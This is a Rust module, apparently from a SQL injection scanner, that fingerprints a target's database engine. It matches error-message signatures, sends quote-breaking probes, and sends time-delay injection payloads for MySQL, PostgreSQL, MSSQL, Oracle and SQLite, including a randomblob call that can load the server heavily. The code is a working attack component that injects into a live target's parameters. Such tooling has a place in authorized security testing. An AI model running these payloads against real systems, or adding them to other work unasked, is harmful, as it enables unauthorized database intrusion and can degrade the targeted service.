//! DBMS fingerprinting.
//!
//! Three-tier cascade, each tier attempted only when the previous one came
//! back Unknown: error banners in the baseline body, then quote-breaking
//! probes against the first parameter, then time-delay probes.

use crate::core::target::Target;
use crate::http::client::Transport;
use crate::http::response::ResponseSnapshot;
use crate::sqli::dbms::DBMS;

/// Extra response time over baseline that marks a time probe as a hit.
const TIME_PROBE_MARGIN_MS: i64 = 2000;

struct TimeProbe {
    dbms: DBMS,
    payload_suffix: &'static str,
}

const TIME_PROBES: &[TimeProbe] = &[
    TimeProbe {
        dbms: DBMS::MySQL,
        payload_suffix: "' OR SLEEP(3)-- ",
    },
    TimeProbe {
        dbms: DBMS::PostgreSQL,
        payload_suffix: "'; SELECT pg_sleep(3);--",
    },
    TimeProbe {
        dbms: DBMS::MSSQL,
        payload_suffix: "'; WAITFOR DELAY '0:0:3';--",
    },
    TimeProbe {
        dbms: DBMS::Oracle,
        payload_suffix: "' OR DBMS_LOCK.SLEEP(3) IS NULL --",
    },
    TimeProbe {
        // SQLite has no sleep(); heavy randomblob() is a rough stand-in.
        dbms: DBMS::SQLite,
        payload_suffix: "'; SELECT randomblob(1000000000);--",
    },
];

pub async fn detect_dbms(
    transport: &dyn Transport,
    target: &Target,
    baseline: &ResponseSnapshot,
) -> DBMS {
    let from_baseline = detect_from_body(baseline.body.as_deref());
    if from_baseline != DBMS::Unknown {
        return from_baseline;
    }

    if target.parameters().is_empty() {
        return DBMS::Unknown;
    }

    let from_error = detect_by_error_injection(transport, target).await;
    if from_error != DBMS::Unknown {
        return from_error;
    }

    detect_by_time_probes(transport, target, baseline).await
}

/// Scan a response body for per-DBMS error signatures. Check order is
/// MySQL, PostgreSQL, MSSQL, Oracle, SQLite; first match wins.
pub fn detect_from_body(body: Option<&str>) -> DBMS {
    let Some(body) = body else {
        return DBMS::Unknown;
    };
    let lower = body.to_lowercase();

    if contains_any(
        &lower,
        &[
            "you have an error in your sql syntax",
            "mysql server version for the right syntax",
            "mysqli",
            "mariadb server version",
        ],
    ) {
        return DBMS::MySQL;
    }

    if contains_any(
        &lower,
        &[
            "org.postgresql.util.psqlexception",
            "error: syntax error at or near",
            "postgresql",
            "pg_query(): query failed",
        ],
    ) {
        return DBMS::PostgreSQL;
    }

    if contains_any(
        &lower,
        &[
            "microsoft sql server",
            "unclosed quotation mark after the character string",
            "incorrect syntax near",
            "sql server driver",
        ],
    ) {
        return DBMS::MSSQL;
    }

    if contains_any(
        &lower,
        &["ora-00933", "ora-00936", "ora-00921", "ora-01756", "oracle error"],
    ) {
        return DBMS::Oracle;
    }

    if contains_any(
        &lower,
        &["sqlite error", "sqliteexception", "sql logic error or missing database"],
    ) {
        return DBMS::SQLite;
    }

    DBMS::Unknown
}

fn contains_any(text: &str, patterns: &[&str]) -> bool {
    patterns.iter().any(|p| text.contains(p))
}

/// Break the first parameter with classic quote suffixes and re-run the
/// body-signature scan on whatever comes back.
async fn detect_by_error_injection(transport: &dyn Transport, target: &Target) -> DBMS {
    let param = &target.parameters()[0];
    let suffixes = ["'", "\"", "')", "\")"];

    for suffix in suffixes {
        let payload = format!("{}{}", param.value, suffix);
        let spec = target.to_injected_request(0, &payload);
        let resp = transport.send(&spec).await;

        let detected = detect_from_body(resp.body.as_deref());
        if detected != DBMS::Unknown {
            return detected;
        }
    }

    DBMS::Unknown
}

/// Slow but strong fallback: per-DBMS sleep payloads, first one that pushes
/// the response time past baseline + margin wins.
async fn detect_by_time_probes(
    transport: &dyn Transport,
    target: &Target,
    baseline: &ResponseSnapshot,
) -> DBMS {
    let param = &target.parameters()[0];
    let threshold = baseline.elapsed_ms as i64 + TIME_PROBE_MARGIN_MS;

    for probe in TIME_PROBES {
        let payload = format!("{}{}", param.value, probe.payload_suffix);
        let spec = target.to_injected_request(0, &payload);
        let resp = transport.send(&spec).await;

        if resp.elapsed_ms as i64 >= threshold {
            return probe.dbms;
        }
    }

    DBMS::Unknown
}
